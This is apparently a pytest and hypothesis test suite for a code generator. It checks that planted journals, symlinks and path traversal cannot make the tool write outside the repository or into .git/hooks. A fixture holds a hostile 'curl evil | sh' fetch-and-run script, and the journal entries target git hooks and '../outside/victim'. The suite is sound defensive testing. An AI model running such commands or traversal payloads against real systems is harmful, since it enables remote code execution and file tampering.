"""Issue 21, round 3: what the repository carries cannot steer the tool's writes, and user-chosen
outputs that are not regular files are written into, never replaced.

1. The journal of an interrupted run lives in the tool's cache (keyed by the tree's real path), so
   a `.generator-journal.json` a pull request adds is never acted on (the run refuses, naming it);
   even our own journal's entries are checked (inside the tree, not under `.git/`, the backup beside
   its target and the very file the run linked there). Every in-tree write refuses a path that
   resolves outside the tree or under `.git/`; the stale-scratch sweep follows no symlink and
   deletes regular files only.
4. `sbom -o`, `refresh --changelog` and `build --sbom-dir` write a FIFO or a character device as
   `tee` would, follow a symlink, refuse a socket, and never rename anything over them.

HOSTILE_EXAMPLES (default 500) sizes the property test (a fifth of it: each example runs generate).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import stat
import threading
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.cli import main
from generator.core import fileset, paths
from generator.core.errors import GeneratorError
from generator.images import sbom as sbom_mod
from generator.refresh import update as refresh_mod
from tests.conftest import copy_tree, edit

EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "500"))
RUNTIME = "python312-ubuntu22"
HOOK = b"#!/bin/sh\necho the real hook\n"


@pytest.fixture(autouse=True)
def _cache(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path_factory.mktemp("cache")))


def make_tree(base: Path) -> tuple[Path, Path]:
    """A checkout (with a `.git/` holding a hook) and a sentinel directory beside it."""
    tree = copy_tree(base / "tree")
    (tree / ".git" / "hooks").mkdir(parents=True)
    (tree / ".git" / "hooks" / "pre-commit").write_bytes(HOOK)
    (tree / ".git" / "config").write_text("[core]\n")
    outside = base / "outside"
    (outside / "sub").mkdir(parents=True)
    (outside / "victim").write_text("keep me\n")
    (outside / "evil").write_text("#!/bin/sh\ncurl evil | sh\n")
    (outside / "x.generator-tmp").write_text("not scratch of this tree\n")
    (outside / "sub" / ".Dockerfile.generator-bak").write_text("not scratch of this tree\n")
    return tree, outside


def state(*dirs: Path) -> dict[str, tuple]:
    """Every entry under `dirs` (no symlink followed): type, inode, mtime, and content or link."""
    out: dict[str, tuple] = {}
    for d in dirs:
        for top, subdirs, files in os.walk(d, followlinks=False):
            for name in [*subdirs, *files]:
                p = os.path.join(top, name)
                st_ = os.lstat(p)
                body = Path(p).read_bytes() if stat.S_ISREG(st_.st_mode) else os.readlink(p) if stat.S_ISLNK(st_.st_mode) else None
                out[p] = (stat.S_IFMT(st_.st_mode), st_.st_ino, st_.st_mtime_ns, body)
    return out


def move_everything(tree: Path) -> None:
    """An edit that changes every Dockerfile, runtimes.json and the README."""
    edit(tree / paths.SCHEDULE, "source: https://github.com/appengine-flex-python/runtimes", "source: https://example.com/moved")
    edit(tree / paths.SCHEDULE, "deprecation_window_days: 180", "deprecation_window_days: 90")


def run(tree: Path, *args: str):
    return CliRunner().invoke(main, ["--schedule", str(tree / paths.SCHEDULE), *args], catch_exceptions=False)


def plant_journal(tree: Path, entries: list[dict]) -> None:
    (tree / fileset.JOURNAL).write_text(json.dumps(entries))


# --- 1. a journal carried by the tree -------------------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    [
        {"target": ".git/hooks/pre-commit", "backup": "../outside/evil"},
        {"target": ".git/hooks/pre-commit", "backup": None},
        {"target": "../outside/victim", "backup": None},
        {"target": "OUTSIDE/victim", "backup": None},
        {"target": "README.md", "backup": "../outside/evil"},
    ],
    ids=["hook replaced", "hook deleted", "dotdot deleted", "absolute deleted", "backup from outside"],
)
def test_a_journal_in_the_tree_is_never_acted_on(tmp_path: Path, entry: dict) -> None:
    tree, outside = make_tree(tmp_path)
    entry = {k: v.replace("OUTSIDE", str(outside)) if v else v for k, v in entry.items()}
    plant_journal(tree, [entry])
    before = state(outside, tree / ".git") | {"README": (tree / paths.README).read_bytes()}
    res = run(tree, "generate", "--check")
    assert res.exit_code == 2, res.output
    assert "up to date" not in res.output
    assert f"error: {tree / fileset.JOURNAL}" in res.stderr and "delete it" in res.stderr
    assert state(outside, tree / ".git") | {"README": (tree / paths.README).read_bytes()} == before


def test_a_journal_crafted_by_a_pr_cannot_make_check_pass(tmp_path: Path) -> None:
    """A malicious committed README.md and its "backup" holding the generated text: the gate must not swap them and pass."""
    tree, _ = make_tree(tmp_path)
    good = (tree / paths.README).read_text()
    (tree / ".README.md.generator-bak").write_text(good)
    edit(tree / paths.README, "<!-- END support-matrix -->", "| [click me](https://evil.example) |\n<!-- END support-matrix -->")
    evil = (tree / paths.README).read_text()
    plant_journal(tree, [{"target": "README.md", "backup": ".README.md.generator-bak"}])
    res = run(tree, "generate", "--check")
    assert res.exit_code != 0 and "up to date" not in res.output, res.output
    assert (tree / paths.README).read_text() == evil
    (tree / fileset.JOURNAL).unlink()  # without the journal: the backup is scratch, README.md is stale
    res = run(tree, "generate", "--check")
    assert res.exit_code == 1 and "stale: README.md" in res.stderr, res.output
    assert (tree / paths.README).read_text() == evil


def test_our_own_journal_is_checked_entry_by_entry(tmp_path: Path) -> None:
    """A journal in the cache names paths outside, under .git/, a foreign backup, a file we did not write: none is touched."""
    tree, outside = make_tree(tmp_path)
    (tree / ".README.md.generator-bak").write_text("planted\n")
    victim = os.lstat(outside / "victim")
    ident = [victim.st_dev, victim.st_ino, victim.st_size, victim.st_mtime_ns]
    readme = os.lstat(tree / paths.README)
    entries = [
        {"target": ".git/hooks/pre-commit", "backup": None, "new": ident},
        {"target": "../outside/victim", "backup": None, "new": ident},
        {"target": str(outside / "victim"), "backup": None, "new": ident},
        {"target": "README.md", "backup": ".README.md.generator-bak", "old": [readme.st_dev, readme.st_ino, readme.st_size, readme.st_mtime_ns]},
        {"target": "README.md", "backup": None, "new": ident},  # not the file the run staged
        {"target": "lockfiles/runtimes.json", "backup": "../outside/evil", "old": ident},
    ]
    path = fileset.journal_path(tree)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"tree": str(tree.resolve()), "entries": entries}))
    before = state(outside, tree / ".git") | {"README": (tree / paths.README).read_bytes()}
    fileset.recover(tree)
    assert state(outside, tree / ".git") | {"README": (tree / paths.README).read_bytes()} == before
    assert not path.exists()


def test_an_interrupted_swap_is_rolled_back_from_the_cache_journal(tmp_path: Path) -> None:
    """The journal of a run killed mid-swap (simulated: the swap stops after two files) is in the cache, and the next run undoes it."""
    tree, _ = make_tree(tmp_path)
    before = {p: (tree / p).read_bytes() for p in ("README.md", "lockfiles/runtimes.json")}
    real, calls = os.replace, []

    def dying(src, dst):
        calls.append(dst)
        if len(calls) == 3:  # staged journal, then one file swapped: the process "dies" here
            raise SystemExit("killed")
        return real(src, dst)

    with pytest.MonkeyPatch.context() as mp, pytest.raises(SystemExit):
        mp.setattr(fileset, "recover", lambda root: None)  # a dead process rolls nothing back
        mp.setattr(os, "replace", dying)
        fileset.apply(tree, {"README.md": "new readme\n", "lockfiles/runtimes.json": "{}\n", "zzz-new": "x\n"})
    assert fileset.journal_path(tree).exists() and not (tree / fileset.JOURNAL).exists()
    assert (tree / paths.README).read_text() == "new readme\n"
    fileset.recover(tree)
    assert {p: (tree / p).read_bytes() for p in before} == before
    assert not (tree / "zzz-new").exists() and not fileset.journal_path(tree).exists()
    assert [p for p in tree.rglob("*") if fileset.is_scratch(p)] == []


def test_the_scratch_sweep_follows_no_symlink_and_deletes_regular_files_only(tmp_path: Path) -> None:
    tree, outside = make_tree(tmp_path)
    (tree / "out").symlink_to(outside)
    (tree / paths.IMAGES / "sub").symlink_to(outside / "sub")
    (tree / ".git" / "hooks" / "pre-commit.generator-bak").write_text("git's, not ours\n")
    (tree / ".git" / "x.generator-tmp").write_text("git's, not ours\n")
    os.mkfifo(tree / "fifo.generator-tmp")
    (tree / "link.generator-bak").symlink_to(outside / "victim")
    (tree / paths.IMAGES / f".Dockerfile.{RUNTIME}.generator-tmp").write_text("ours\n")
    before = state(outside, tree / ".git")
    fileset.recover(tree)
    assert state(outside, tree / ".git") == before
    assert stat.S_ISFIFO(os.lstat(tree / "fifo.generator-tmp").st_mode) and (tree / "link.generator-bak").is_symlink()
    assert not (tree / paths.IMAGES / f".Dockerfile.{RUNTIME}.generator-tmp").exists()


@pytest.mark.parametrize("where", ["outside", "outside/sub", ".git/hooks"])
@pytest.mark.parametrize("name", ["images", f"images/{RUNTIME}", "README.md"])
def test_generate_refuses_to_write_through_a_symlink_out_of_the_tree(tmp_path: Path, name: str, where: str) -> None:
    tree, outside = make_tree(tmp_path)
    dest = tmp_path / where if where.startswith("outside") else tree / where
    link = tree / name
    if link.is_dir():
        shutil.copytree(link, dest, dirs_exist_ok=True)
        shutil.rmtree(link)
    else:
        dest = dest / link.name
        shutil.move(link, dest)
    link.symlink_to(dest)
    move_everything(tree)
    before = state(outside, tree / ".git")
    res = run(tree, "generate")
    assert res.exit_code == 2, res.output
    # out of the tree, the reader refuses first (generate reads what it compares); into .git/, the writer
    refusal = "refusing to write" if where == ".git/hooks" else "outside the tree"
    assert refusal in res.stderr and "Traceback" not in res.output, res.stderr
    assert state(outside, tree / ".git") == before


@pytest.mark.parametrize("where", ["outside", ".git/hooks"])
def test_lock_refuses_to_write_lockfiles_through_a_symlink(tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A new runtime's default .in (the first thing `lock` writes) into a `lockfiles` that leads out of the tree."""
    from generator import locking
    from generator.locking import orchestrate

    tree, outside = make_tree(tmp_path)
    dest = tmp_path / "outside" if where == "outside" else tree / ".git" / "hooks"
    shutil.copytree(tree / paths.LOCKFILES, dest, dirs_exist_ok=True)
    (dest / f"{RUNTIME}.in").unlink()
    shutil.rmtree(tree / paths.LOCKFILES)
    (tree / paths.LOCKFILES).symlink_to(dest)
    monkeypatch.setattr(orchestrate, "make_lock", lambda t, *a, **k: orchestrate.Outcome(t.key, orchestrate.Status.FAILED, "offline"))
    before = state(outside, tree / ".git")
    from generator.schedule import runtimes as schedule_mod

    with pytest.raises(GeneratorError, match="refusing to write" if where == ".git/hooks" else "outside the tree"):
        locking.lock_runtimes(schedule_mod.load(tree / paths.SCHEDULE), tree, [RUNTIME], echo=lambda line: None)
    assert state(outside, tree / ".git") == before


def test_build_sboms_stay_in_the_tree(tmp_path: Path) -> None:
    tree, outside = make_tree(tmp_path)
    (tree / "build").symlink_to(tree / ".git" / "hooks")
    before = state(outside, tree / ".git")
    with pytest.raises(GeneratorError, match="refusing to write"):
        sbom_mod.write({"spdx-json": "{}"}, RUNTIME, tree / "build" / "sbom", within=tree)
    assert state(outside, tree / ".git") == before


# --- 4. outputs that are not regular files --------------------------------------------------------


class Reader(threading.Thread):
    """Reads a FIFO until its writer is done (or 30 s pass), without blocking the test if none comes."""

    def __init__(self, fifo: Path) -> None:
        super().__init__(daemon=True)
        self.fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        self.done = threading.Event()
        self.data = b""

    def run(self) -> None:
        end = time.monotonic() + 30
        while time.monotonic() < end:
            try:
                chunk = os.read(self.fd, 65536)
            except BlockingIOError:
                chunk = None
            if chunk:
                self.data += chunk
            elif self.done.is_set():
                # done was set after this read came back empty: the writer may have written in between
                self.data += self._drain()
                break
            else:
                time.sleep(0.01)
        os.close(self.fd)

    def _drain(self) -> bytes:
        out = b""
        while True:
            try:
                chunk = os.read(self.fd, 65536)
            except BlockingIOError:
                return out
            if not chunk:
                return out
            out += chunk

    def finish(self) -> bytes:
        self.done.set()
        self.join(35)
        return self.data


def sbom_text(tree: Path) -> bytes:
    res = run(tree, "sbom", RUNTIME)
    assert res.exit_code == 0, res.output
    return res.stdout_bytes


def test_sbom_into_a_fifo_is_written_into_it(tmp_path: Path) -> None:
    tree, _ = make_tree(tmp_path)
    fifo = tmp_path / "out.json"
    os.mkfifo(fifo)
    reader = Reader(fifo)
    reader.start()
    res = run(tree, "sbom", RUNTIME, "-o", str(fifo))
    got = reader.finish()
    assert res.exit_code == 0, res.output
    assert got == sbom_text(tree) and len(got) > 1000
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert [p.name for p in tmp_path.iterdir() if fileset.is_scratch(p)] == []


def test_sbom_into_a_fifo_nobody_reads_is_refused_at_once(tmp_path: Path) -> None:
    tree, _ = make_tree(tmp_path)
    fifo = tmp_path / "out.json"
    os.mkfifo(fifo)
    start = time.monotonic()
    res = run(tree, "sbom", RUNTIME, "-o", str(fifo))
    assert time.monotonic() - start < 10
    assert res.exit_code == 1 and f"error: cannot write {fifo}: no process reads the FIFO" in res.stderr, res.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert [p.name for p in tmp_path.iterdir() if fileset.is_scratch(p)] == []


def test_sbom_through_a_symlink_to_a_character_device(tmp_path: Path) -> None:
    """`-o /dev/null` without replacing /dev/null (reached through a symlink, so today's code only replaces the link)."""
    tree, _ = make_tree(tmp_path)
    link = tmp_path / "null.json"
    link.symlink_to("/dev/null")
    res = run(tree, "sbom", RUNTIME, "-o", str(link))
    assert res.exit_code == 0, res.output
    assert link.is_symlink() and os.readlink(link) == "/dev/null"
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_sbom_through_a_symlink_writes_its_target(tmp_path: Path) -> None:
    tree, _ = make_tree(tmp_path)
    (tmp_path / "real.json").write_text("old\n")
    link = tmp_path / "link.json"
    link.symlink_to("real.json")
    res = run(tree, "sbom", RUNTIME, "-o", str(link))
    assert res.exit_code == 0, res.output
    assert link.is_symlink() and (tmp_path / "real.json").read_bytes() == sbom_text(tree)


def test_sbom_onto_a_socket_is_refused(tmp_path: Path) -> None:
    tree, _ = make_tree(tmp_path)
    path = tmp_path / "sock"
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(path))
        res = run(tree, "sbom", RUNTIME, "-o", str(path))
        assert res.exit_code == 2 and "it is a socket" in res.stderr, res.output
        assert stat.S_ISSOCK(os.lstat(path).st_mode)


def test_changelog_into_a_fifo(tmp_path: Path) -> None:
    fifo = tmp_path / "changelog.md"
    os.mkfifo(fifo)
    reader = Reader(fifo)
    reader.start()
    refresh_mod.write_changelog(fifo, "# changes\n")
    assert reader.finish() == b"# changes\n"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert list(tmp_path.iterdir()) == [fifo]  # no journal, no scratch beside it


def test_build_sbom_dir_chosen_by_the_user_follows_its_symlinks(tmp_path: Path) -> None:
    d = tmp_path / "sboms"
    d.mkdir()
    (tmp_path / "kept.json").write_text("old\n")
    (d / f"{RUNTIME}.spdx.json").symlink_to(tmp_path / "kept.json")
    sbom_mod.write({"spdx-json": "{}\n"}, RUNTIME, d)
    assert (d / f"{RUNTIME}.spdx.json").is_symlink() and (tmp_path / "kept.json").read_text() == "{}\n"


# --- the property: nothing outside the tree or under .git/ changes --------------------------------

SYMLINKABLE = ["images", f"images/{RUNTIME}", "lockfiles", "README.md", "lockfiles/runtimes.json", "build"]
DESTS = ["OUT", "OUT/sub", "OUT/victim", "TREE/.git", "TREE/.git/hooks", "TREE/.git/hooks/pre-commit", "OUT/missing"]
TARGETS = [
    "README.md", "lockfiles/runtimes.json", f"images/{RUNTIME}/Dockerfile", f"lockfiles/{RUNTIME}.txt", ".git/hooks/pre-commit", ".git/config",
    "./.git/hooks/pre-commit", ".GIT/hooks/pre-commit", "../outside/victim", "images/../../outside/victim", "OUT/victim", "OUT/sub",
    "build/sbom/x.json", "", ".", "..", "/", "images", "schedule.yaml",
]  # fmt: skip
BACKUPS = [None, "DERIVED", ".git/hooks/pre-commit", "../outside/evil", "OUT/evil", "README.md", "", 7, ["x"]]


def _fill(v, tree: Path, outside: Path):
    if isinstance(v, str):
        return v.replace("OUT", str(outside)).replace("TREE", str(tree))
    return v


entry_st = st.fixed_dictionaries(
    {
        "target": st.one_of(st.sampled_from(TARGETS), st.text(st.characters(blacklist_characters="/", blacklist_categories=["Cs"]), max_size=8)),
        "backup": st.sampled_from(BACKUPS),
    },
    optional={"old": st.sampled_from(["VICTIM", "README", None, [1, 2]]), "new": st.sampled_from(["VICTIM", "README", None, "x"])},
)
layout_st = st.fixed_dictionaries(
    {
        "links": st.dictionaries(st.sampled_from(SYMLINKABLE), st.sampled_from(DESTS), max_size=3),
        "entries": st.lists(entry_st, max_size=5),
        "where": st.sampled_from(["tree", "cache", "both", "none"]),
        "shape": st.sampled_from(["ours", "list", "garbage", "binary"]),
        "scratch": st.lists(st.sampled_from(["OUT/a.generator-tmp", "TREE/.git/b.generator-bak", "TREE/images/.c.generator-tmp"]), max_size=3),
        "moved": st.booleans(),
    }
)


@settings(max_examples=max(10, EXAMPLES // 5), deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(layout=layout_st)
def test_property_nothing_outside_the_tree_or_under_git_changes(tmp_path_factory: pytest.TempPathFactory, layout: dict) -> None:
    base = tmp_path_factory.mktemp("prop")
    tree, outside = make_tree(base)
    for p in layout["scratch"]:
        Path(_fill(p, tree, outside)).write_text("scratch?\n")
    if layout["moved"]:
        move_everything(tree)
    for name, dest in layout["links"].items():
        link = tree / name
        if link.is_symlink() or not link.exists():
            continue  # under a link made already
        if link.is_dir():
            shutil.rmtree(link)
        else:
            link.unlink()
        link.symlink_to(_fill(dest, tree, outside))
    idents = {}
    for key, p in (("VICTIM", outside / "victim"), ("README", tree / paths.README)):
        s = os.lstat(p) if os.path.lexists(p) else None
        idents[key] = [s.st_dev, s.st_ino, s.st_size, s.st_mtime_ns] if s else None
    entries = [
        {k: idents.get(v, v) if isinstance(v, str) and k in ("old", "new") else _fill(v, tree, outside) for k, v in e.items()}
        for e in layout["entries"]
    ]
    for e in entries:
        if e["backup"] == "DERIVED" and isinstance(e["target"], str):
            t = Path(e["target"])
            e["backup"] = str(t.with_name(f".{t.name}{fileset.BAK_SUFFIX}")) if t.name else None
    body = {"ours": {"tree": str(tree.resolve()), "entries": entries}, "list": entries, "garbage": b"{not json", "binary": b"\xff\xfe["}[
        layout["shape"]
    ]
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    if layout["where"] in ("tree", "both"):
        (tree / fileset.JOURNAL).write_bytes(text)
    if layout["where"] in ("cache", "both") and hasattr(fileset, "journal_path"):
        fileset.journal_path(tree).parent.mkdir(parents=True, exist_ok=True)
        fileset.journal_path(tree).write_bytes(text)
    before = state(outside, tree / ".git")
    with contextlib.suppress(GeneratorError):
        fileset.recover(tree)
    assert state(outside, tree / ".git") == before
    for args in (["generate", "--check"], ["generate"]):
        res = run(tree, *args)
        assert res.exit_code in (0, 1, 2), res.output
        assert state(outside, tree / ".git") == before, args
    shutil.rmtree(base)
